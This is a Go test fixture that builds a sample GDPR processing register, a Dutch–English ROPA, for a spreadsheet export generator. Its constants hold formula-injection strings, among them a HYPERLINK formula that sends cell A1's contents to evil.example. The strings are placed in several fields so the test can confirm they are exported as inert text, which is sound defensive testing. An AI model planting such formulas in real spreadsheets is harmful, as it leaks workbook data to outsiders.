package workbook

import "github.com/privacy-as-code/ropa/generator/internal/register"

// Hostile texts: a spreadsheet must show them as text, never evaluate them.
const (
	hostileLink = `=HYPERLINK("https://evil.example/?q="&A1,"Click")`
	hostileSum  = "-1+1"
	hostileAt   = "@SUM(1+1)"
	hostilePlus = "+31 20 123 4567"
)

// sampleRegister returns a small register that uses every field the workbook
// shows. Its activities are deliberately not sorted by id.
func sampleRegister() *register.Register {
	f := false
	return &register.Register{
		Languages:       []string{"nl", "en"},
		DefaultLanguage: "nl",
		Organisation: register.Organisation{
			Name:          register.Name{"": "Voorbeeld & Zonen"},
			EffectiveDate: "2026-03-01",
			Version:       "2026.1",
			Controllers: []register.Party{{
				LegalName:    register.Name{"": "Voorbeeld & Zonen B.V."},
				Address:      "Keizersgracht 1, 1015 AA Amsterdam",
				Country:      "NL",
				Email:        "privacy@voorbeeld.example",
				Phone:        hostilePlus,
				Registration: "KvK 12345678",
			}},
			JointControllers: []register.JointController{{
				Party:       register.Party{LegalName: register.Name{"": "Partner GmbH"}, Address: "Hauptstraße 1, 10115 Berlin", Country: "DE"},
				Arrangement: register.Text{"nl": "Partner beantwoordt verzoeken.", "en": "Partner answers requests."},
			}},
			DPO: &register.DPO{Name: register.Name{"": "J. Jansen"}, Email: "fg@voorbeeld.example"},
			SupervisoryAuthority: register.Authority{
				Name:    register.Name{"": "Autoriteit Persoonsgegevens"},
				Country: "NL",
				Website: "https://autoriteitpersoonsgegevens.nl",
			},
			Security: register.Text{"": "Wij versleutelen alles.", "en": "We encrypt everything."},
			Internal: &register.OrganisationNotes{RecordOwner: "Privacy office"},
		},
		Subjects: map[string]*register.Subject{
			"customers": {ID: "customers", Name: register.Text{"nl": "Klanten", "en": "Customers"}},
			"employees": {ID: "employees", Name: register.Text{"nl": "Medewerkers", "en": "Employees"}},
		},
		Categories: map[string]*register.Category{
			"contact": {ID: "contact", Name: register.Text{"nl": "Contactgegevens", "en": "Contact details"},
				Description: register.Text{"nl": "Naam en e-mail", "en": "Name and e-mail"},
				Examples:    []register.Text{{"nl": "e-mailadres", "en": "e-mail address"}, {"": "naam", "en": "name"}},
				Source:      "provided"},
			"health": {ID: "health", Name: register.Text{"nl": "Gezondheid", "en": "Health"},
				Description: register.Text{"nl": "Ziekteverzuim", "en": "Sick leave"},
				Special:     true, Source: "provided"},
			"usage": {ID: "usage", Name: register.Text{"nl": "Gebruiksgegevens", "en": "Usage data"},
				Description: register.Text{"nl": "Kliks", "en": "Clicks"}, Source: "observed"},
			"offences": {ID: "offences", Name: register.Text{"nl": "Strafbare feiten", "en": "Offences"},
				Description: register.Text{"nl": "VOG", "en": "Certificate of conduct"}, Criminal: true, Source: "received"},
		},
		Recipients: map[string]*register.Recipient{
			"mailco": {ID: "mailco", Name: register.Name{"": "MailCo Inc."}, Kind: "processor", Country: "US",
				Description: register.Text{"nl": "Verstuurt e-mail", "en": "Sends e-mail"},
				Internal:    &register.RecipientNote{Contract: "DPA-2025-07", Contact: "dpo@mailco.example"}},
			"evil": {ID: "evil", Name: register.Name{"": hostileLink}, Kind: "other", Country: "NL",
				Description: register.Text{"": hostileSum},
				Internal:    &register.RecipientNote{Contact: hostilePlus}},
			"tax": {ID: "tax", Name: register.Name{"": "Belastingdienst"}, Kind: "public-authority", Country: "NL",
				Description: register.Text{"nl": "Loonaangifte", "en": "Payroll tax return"}},
		},
		Measures: map[string]*register.Measure{
			"encryption": {ID: "encryption", Name: register.Text{"nl": "Versleuteling", "en": "Encryption"},
				Description: register.Text{"nl": "TLS en AES", "en": "TLS and AES"}, Kind: "technical"},
			"training": {ID: "training", Name: register.Text{"nl": "Training", "en": "Training"},
				Description: register.Text{"nl": "Jaarlijks", "en": "Yearly"}, Kind: "organisational"},
		},
		Activities: []*register.Activity{
			{
				ID:                       "sick-leave",
				Name:                     register.Text{"nl": "Ziekteverzuim", "en": "Sick leave"},
				Role:                     "controller",
				Purposes:                 register.PurposesOf(register.Text{"nl": "Verzuim begeleiden", "en": "Managing sick leave"}),
				LegalBasis:               "legal-obligation",
				Law:                      register.Text{"nl": "Wet verbetering poortwachter", "en": "Gatekeeper Improvement Act"},
				SpecialCategoryCondition: "art9-2-b",
				Subjects:                 []string{"employees"},
				Categories:               []string{"contact", "health", "offences"},
				SourceDetails:            register.Text{"nl": "Van de arbodienst", "en": "From the occupational health service"},
				Recipients:               []string{"tax"},
				Retention: []register.Retention{
					{Categories: []string{"health"}, Period: "P2Y", Trigger: register.Text{"nl": "na herstel", "en": "after recovery"}},
					{Categories: []string{"contact", "offences"}, Criteria: register.Text{"nl": "Zolang het dienstverband duurt", "en": "For as long as the employment lasts"}},
				},
				Measures: []string{"training"},
				Public:   &f,
				Internal: &register.ActivityInternal{
					Owner: "HR", BusinessFunction: "Human resources", Systems: []string{"AFAS", "Arbo portal"},
					DPIA: &register.DPIA{Required: true, Status: "done", Link: "https://intranet.example/dpia/7"},
				},
			},
			{
				ID:                 "analytics",
				Name:               register.Text{"nl": "Statistieken", "en": "Analytics"},
				Role:               "controller",
				Purposes:           register.PurposesOf(register.Text{"": hostileLink}, register.Text{"": hostileSum}, register.Text{"nl": "Site verbeteren", "en": "Improving the site"}),
				LegalBasis:         "legitimate-interests",
				LegitimateInterest: register.Text{"nl": "Een bruikbare site", "en": "A usable site"},
				Subjects:           []string{"customers"},
				Categories:         []string{"usage"},
				Recipients:         []string{"evil"},
				Retention:          []register.Retention{{Categories: []string{"usage"}, Period: "P1Y6M"}},
				Measures:           []string{"encryption", "training"},
				AutomatedDecisions: register.AutomatedDecisions{
					Used:         true,
					Logic:        register.Text{"nl": "Score", "en": "A score"},
					Consequences: register.Text{"nl": "Andere prijs", "en": "Another price"},
				},
				Internal: &register.ActivityInternal{LIA: hostileAt, Owner: "Product"},
			},
			{
				ID:   "payroll-service",
				Name: register.Text{"nl": "Salarisverwerking voor klanten", "en": "Payroll for clients"},
				Role: "processor",
				OnBehalfOf: []register.Party{
					{LegalName: register.Name{"": "Klant A B.V."}, Address: "Straat 2, Utrecht", Country: "NL", Email: "a@klant.example"},
					{LegalName: register.Name{"": "Client B Ltd"}, Address: "1 Road, London", Country: "GB"},
				},
				Purposes:   register.PurposesOf(register.Text{"nl": "Salarisstroken maken", "en": "Making payslips"}),
				LegalBasis: "contract",
				Subjects:   []string{"employees"},
				Categories: []string{"contact"},
				Recipients: []string{"mailco"},
				Transfers:  []register.Transfer{{Recipient: "mailco", Country: "US", Safeguard: "scc"}},
				Measures:   []string{"encryption"},
				Internal:   &register.ActivityInternal{Owner: "Payroll", Systems: []string{"Loket"}},
			},
			{
				ID:         "newsletter",
				Name:       register.Text{"nl": "Nieuwsbrief", "en": "Newsletter"},
				Role:       "controller",
				Purposes:   register.PurposesOf(register.Text{"nl": "Nieuwsbrief sturen", "en": "Sending the newsletter"}),
				LegalBasis: "consent",
				Subjects:   []string{"customers"},
				Categories: []string{"contact", "usage"},
				Recipients: []string{"mailco"},
				Transfers: []register.Transfer{
					{Recipient: "mailco", Country: "US", Safeguard: "dpf", Details: register.Text{"nl": "Gecertificeerd", "en": "Certified"}},
					{Recipient: "mailco", Country: "JP", Safeguard: "adequacy"},
				},
				Retention: []register.Retention{{Categories: []string{"contact", "usage"}, Period: "P2Y",
					Trigger: register.Text{"nl": "na afmelding", "en": "after unsubscribing"}}},
				Cookies: []register.Cookie{
					{Name: "nl_open", Kind: "pixel", Provider: "third-party", Recipient: "mailco", Purpose: register.Text{"nl": "Meet of de mail is geopend", "en": "Measures whether the mail was opened"}, Lifetime: "PT1H", Category: "analytics"},
					{Name: "nl_form", Provider: "first-party", Purpose: register.Text{"nl": "Onthoudt het formulier", "en": "Remembers the form"}, Lifetime: "session", Category: "strictly-necessary"},
				},
				Measures: []string{"encryption"},
				Internal: &register.ActivityInternal{
					Owner: "Marketing", BusinessFunction: "Marketing", Systems: []string{"MailCo"},
					ConsentRecord: "CRM consent log", ProcessorContracts: []string{"DPA-2025-07"},
				},
			},
		},
	}
}
